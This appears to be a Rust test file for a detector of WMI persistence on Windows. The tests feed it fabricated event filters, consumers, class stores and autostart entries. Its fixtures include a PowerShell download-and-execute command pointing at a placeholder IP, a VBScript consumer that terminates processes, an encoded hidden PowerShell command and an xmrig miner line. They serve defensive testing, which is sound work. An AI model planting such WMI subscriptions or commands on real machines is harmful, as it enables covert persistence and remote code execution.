@@ -1,0 +1,336 @@
+//! The judgement as a whole, on evidence made up in code. Recordings of real machines are tested with the command line.
+
+use crate::assessment::{Action, Assessment, Confidence, Kind, Severity, Stage, State, Verdict};
+use crate::test_support::{evidence_of, object, records_of};
+use evidence::{
+    Area, AutostartEntry, AutostartKind, ClassProperty, Evidence, ReadState, RecordData, WmiClass, WmiObject,
+};
+use intel::Intel;
+
+fn stock() -> Vec<WmiObject> {
+    vec![
+        object(
+            "__EventFilter",
+            &[
+                ("Name", "SCM Event Log Filter"),
+                ("Query", "select * from MSFT_SCMEventLogEvent"),
+                ("QueryLanguage", "WQL"),
+                ("EventNamespace", r"root\cimv2"),
+                ("EventAccess", ""),
+            ],
+        ),
+        object(
+            "NTEventLogEventConsumer",
+            &[
+                ("Name", "SCM Event Log Consumer"),
+                ("Category", "0"),
+                ("EventID", "0"),
+                ("EventType", "1"),
+                ("InsertionStringTemplates", ""),
+                ("NameOfRawDataProperty", ""),
+                ("NameOfUserSIDProperty", "sid"),
+                ("NumberOfInsertionStrings", "0"),
+                ("SourceName", "Service Control Manager"),
+                ("UNCServerName", ""),
+            ],
+        ),
+        binding("SCM Event Log Filter", "NTEventLogEventConsumer", "SCM Event Log Consumer"),
+    ]
+}
+
+fn binding(filter: &str, class: &str, consumer: &str) -> WmiObject {
+    object(
+        "__FilterToConsumerBinding",
+        &[
+            ("Filter", &format!("__EventFilter.Name=\"{filter}\"")),
+            ("Consumer", &format!("{class}.Name=\"{consumer}\"")),
+            ("DeliverSynchronously", "FALSE"),
+            ("DeliveryQoS", ""),
+            ("MaintainSecurityContext", "FALSE"),
+            ("SlowDownProviders", "FALSE"),
+        ],
+    )
+}
+
+fn filter(name: &str, query: &str) -> WmiObject {
+    object(
+        "__EventFilter",
+        &[("Name", name), ("Query", query), ("QueryLanguage", "WQL"), ("EventNamespace", r"root\cimv2")],
+    )
+}
+
+fn command(name: &str, line: &str) -> WmiObject {
+    object(
+        "CommandLineEventConsumer",
+        &[("Name", name), ("CommandLineTemplate", line), ("ExecutablePath", "")],
+    )
+}
+
+/// The stock entry and these objects, read completely.
+fn machine(objects: impl IntoIterator<Item = WmiObject>) -> Evidence {
+    complete(evidence_of(stock().into_iter().chain(objects)))
+}
+
+fn complete(mut evidence: Evidence) -> Evidence {
+    for area in [Area::EventFilters, Area::EventConsumers, Area::Bindings] {
+        evidence.coverage.add(area, ReadState::Complete);
+    }
+    evidence
+}
+
+fn assess(evidence: &Evidence) -> Assessment {
+    crate::assess(evidence, Intel::builtin())
+}
+
+fn state(assessment: &Assessment, stage: Stage) -> State {
+    assessment.stages.iter().find(|s| s.stage == stage).map(|s| s.state).unwrap()
+}
+
+#[test]
+fn a_clean_machine_is_silent() {
+    let assessment = assess(&machine([]));
+    assert_eq!(assessment.verdict, Verdict::Clean);
+    assert!(assessment.findings.is_empty(), "{:#?}", assessment.findings);
+    assert_eq!(state(&assessment, Stage::Compare), State::Ok);
+    assert_eq!(state(&assessment, Stage::Confirm), State::Ok);
+    assert_eq!(state(&assessment, Stage::Patch), State::Unknown);
+    assert_eq!(state(&assessment, Stage::Verify), State::Unknown);
+    assert_eq!(assessment.stages.len(), 8);
+}
+
+#[test]
+fn a_part_that_was_not_read_is_never_clean() {
+    let mut evidence = evidence_of(stock());
+    evidence.coverage.add(Area::EventFilters, ReadState::Complete);
+    let assessment = assess(&evidence);
+    assert_eq!(assessment.verdict, Verdict::Inconclusive);
+    assert_eq!(state(&assessment, Stage::Compare), State::Unknown);
+    assert!(assessment.missing.iter().any(|missing| missing.area == Area::Bindings && !missing.partly));
+}
+
+#[test]
+fn a_missing_stock_entry_is_a_finding_and_names_its_parts() {
+    // What the published removal script leaves: its first line deletes the stock filter.
+    let assessment = assess(&complete(evidence_of(stock().into_iter().skip(1))));
+    let kinds: Vec<_> = assessment.findings.iter().map(|f| (f.kind, f.action)).collect();
+    assert_eq!(kinds, [(Kind::StockMissing, Action::Restore)]);
+    assert_eq!(assessment.findings[0].subject["missing"], serde_json::json!(["filter"]));
+    assert_eq!(assessment.verdict, Verdict::Clean);
+    assert_eq!(state(&assessment, Stage::Compare), State::Act);
+}
+
+#[test]
+fn a_stock_name_with_another_content_is_worse_than_an_unknown_name() {
+    let forged = [
+        filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent"),
+        command("SCM Event Log Consumer", r"C:\Windows\System32\notepad.exe"),
+        binding("SCM Event Log Filter", "CommandLineEventConsumer", "SCM Event Log Consumer"),
+    ];
+    let unknown = [
+        filter("My Filter", "select * from MSFT_SCMEventLogEvent"),
+        command("My Consumer", r"C:\Windows\System32\notepad.exe"),
+        binding("My Filter", "CommandLineEventConsumer", "My Consumer"),
+    ];
+    let forged = assess(&machine(forged));
+    assert_eq!(forged.verdict, Verdict::Infected);
+    assert_eq!(
+        (forged.findings[0].severity, forged.findings[0].confidence),
+        (Severity::High, Confidence::Likely)
+    );
+    let unknown = assess(&machine(unknown));
+    assert_eq!(unknown.verdict, Verdict::Suspicious);
+    assert_eq!(
+        (unknown.findings[0].severity, unknown.findings[0].confidence),
+        (Severity::Medium, Confidence::Possible)
+    );
+    assert_eq!(unknown.findings[0].action, Action::Review);
+}
+
+#[test]
+fn the_creator_never_decides() {
+    let mut objects = stock();
+    for object in &mut objects {
+        object.properties.push(evidence::Property {
+            name: evidence::PropertyName::known("CreatorSID"),
+            value: evidence::Value::Array([1u64, 5, 0, 0].map(Into::into).to_vec()),
+            state: evidence::State::Truncated,
+        });
+    }
+    assert!(assess(&complete(evidence_of(objects))).findings.is_empty());
+}
+
+#[test]
+fn a_download_in_a_consumer_is_infected_and_shown() {
+    let assessment = assess(&machine([
+        filter(
+            "f",
+            "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'",
+        ),
+        command(
+            "c",
+            "cmd /C powershell.exe -nop iex(New-Object Net.WebClient).DownloadString('http://192.0.2.4/a.ps1')",
+        ),
+        binding("f", "CommandLineEventConsumer", "c"),
+    ]));
+    assert_eq!(assessment.verdict, Verdict::Infected);
+    let finding = &assessment.findings[0];
+    assert_eq!((finding.kind, finding.action), (Kind::Subscription, Action::Remove));
+    assert!(finding.attack.contains(&"T1546.003".to_owned()));
+    assert!(
+        finding.decoded[0].indicators.iter().any(|i| i.value.contains("192.0.2.4")),
+        "{:?}",
+        finding.decoded
+    );
+    assert_eq!(finding.subject["filters"].as_array().map(Vec::len), Some(1));
+}
+
+#[test]
+fn a_consumer_bound_twice_is_one_finding() {
+    let query = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'";
+    let script = "Set p = GetObject(\"winmgmts:\").ExecQuery(\"select * from Win32_Process\")\nfor each x in p\nx.Terminate()\nnext";
+    let assessment = assess(&machine([
+        filter("f1", query),
+        filter("f2", query),
+        object(
+            "ActiveScriptEventConsumer",
+            &[("Name", "c"), ("ScriptingEngine", "VBScript"), ("ScriptText", script)],
+        ),
+        binding("f1", "ActiveScriptEventConsumer", "c"),
+        binding("f2", "ActiveScriptEventConsumer", "c"),
+    ]));
+    assert_eq!(assessment.findings.len(), 1);
+    assert_eq!(assessment.findings[0].severity, Severity::High, "it ends a tool for looking at the machine");
+    assert_eq!(assessment.findings[0].subject["filters"].as_array().map(Vec::len), Some(2));
+}
+
+#[test]
+fn names_alone_are_never_infected() {
+    let assessment = assess(&machine([
+        filter("SCM Event8 Log Filter", "select * from Win32_VolumeChangeEvent"),
+        command("SCM Event8 Log Consumer", r"C:\Program Files\Backup\sync.exe"),
+        binding("SCM Event8 Log Filter", "CommandLineEventConsumer", "SCM Event8 Log Consumer"),
+    ]));
+    assert_eq!(assessment.verdict, Verdict::Suspicious);
+    assert!(assessment.findings.iter().all(|f| f.severity >= Severity::Medium && f.action == Action::Review));
+}
+
+#[test]
+fn the_bvt_entry_is_for_review_and_says_why() {
+    let assessment = assess(&machine([
+        filter(
+            "BVTFilter",
+            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99",
+        ),
+        object(
+            "CommandLineEventConsumer",
+            &[
+                ("Name", "BVTConsumer"),
+                ("CommandLineTemplate", "cscript KernCap.vbs"),
+                ("WorkingDirectory", r"C:\\tools\\kernrate"),
+            ],
+        ),
+        binding("BVTFilter", "CommandLineEventConsumer", "BVTConsumer"),
+    ]));
+    assert_eq!(assessment.verdict, Verdict::Clean, "{:#?}", assessment.findings);
+    assert_eq!(assessment.findings[0].severity, Severity::Low);
+    assert!(assessment.findings[0].reasons.iter().any(|reason| reason.id == "reason-baseline-file"));
+}
+
+#[test]
+fn a_payload_in_a_class_is_found_by_size_and_names_its_victims() {
+    let property = |name: &str, value: String| ClassProperty {
+        name: name.into(),
+        cim_type: "string".into(),
+        default: Some(value.into()),
+    };
+    let class = WmiClass {
+        name: "Win32_Services".into(),
+        namespace: Some(r"root\default".into()),
+        properties: vec![
+            property("mon", "QUJD".repeat(1000)),
+            property("funs", "QUJD".repeat(1000)),
+            property("ipsu", "10.0.0.7 10.0.0.8".into()),
+        ],
+        ..WmiClass::default()
+    };
+    let assessment = assess(&records_of([RecordData::WmiClass(class)]));
+    assert_eq!(assessment.verdict, Verdict::Infected);
+    let finding = &assessment.findings[0];
+    assert_eq!((finding.kind, finding.family.as_deref()), (Kind::ClassStore, Some("WannaMine")));
+    assert_eq!(assessment.neighbours, ["10.0.0.7", "10.0.0.8"]);
+    assert_eq!(state(&assessment, Stage::Prevent), State::Act);
+}
+
+#[test]
+fn a_class_of_windows_is_no_store() {
+    let class = WmiClass {
+        name: "StdRegProv".into(),
+        namespace: Some(r"root\default".into()),
+        properties: vec![ClassProperty {
+            name: "x".into(),
+            cim_type: "string".into(),
+            default: Some("y".repeat(134).into()),
+        }],
+        ..WmiClass::default()
+    };
+    assert!(assess(&records_of([RecordData::WmiClass(class)])).findings.is_empty());
+}
+
+fn entry(kind: AutostartKind, name: &str, command: &str) -> RecordData {
+    RecordData::Autostart(AutostartEntry {
+        kind: Some(kind),
+        name: name.into(),
+        location: "Task Scheduler".into(),
+        launch_string: Some(command.into()),
+        ..AutostartEntry::default()
+    })
+}
+
+#[test]
+fn an_open_miner_is_the_owners_business() {
+    let miner = entry(
+        AutostartKind::Run,
+        "miner",
+        r"C:\Miner\xmrig.exe -o stratum+tcp://pool.example.org:3333 -u wallet -p x --donate-level 1",
+    );
+    let assessment =
+        assess(&complete(records_of(stock().into_iter().map(RecordData::WmiObject).chain([miner]))));
+    assert_eq!(assessment.findings[0].action, Action::AskOwner);
+    assert_eq!(assessment.verdict, Verdict::Suspicious);
+}
+
+#[test]
+fn ordinary_autostart_entries_are_silent() {
+    let entries = [
+        entry(
+            AutostartKind::Task,
+            r"\GoogleUpdateTaskMachineUA",
+            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua",
+        ),
+        entry(
+            AutostartKind::Task,
+            r"\Microsoft\Windows\Workplace Join\Automatic-Device-Join",
+            r"%SystemRoot%\System32\dsregcmd.exe $(Arg0)",
+        ),
+        entry(AutostartKind::Service, "W32Time", r"C:\Windows\system32\svchost.exe -k LocalService"),
+    ];
+    assert!(assess(&records_of(entries)).findings.is_empty());
+}
+
+#[test]
+fn an_ambiguous_reading_of_the_stock_entry_is_not_silent() {
+    let mut objects = stock();
+    objects[1].ambiguous = true;
+    let assessment = assess(&complete(evidence_of(objects)));
+    assert_ne!(assessment.verdict, Verdict::Clean);
+    assert!(assessment.findings.iter().all(|f| f.action != Action::Remove));
+}
+
+#[test]
+fn two_runs_give_the_same() {
+    let evidence = machine([
+        command("c", "powershell -w hidden -enc SQBFAFgA"),
+        filter("f", "select * from __TimerEvent"),
+    ]);
+    assert_eq!(assess(&evidence), assess(&evidence));
+}
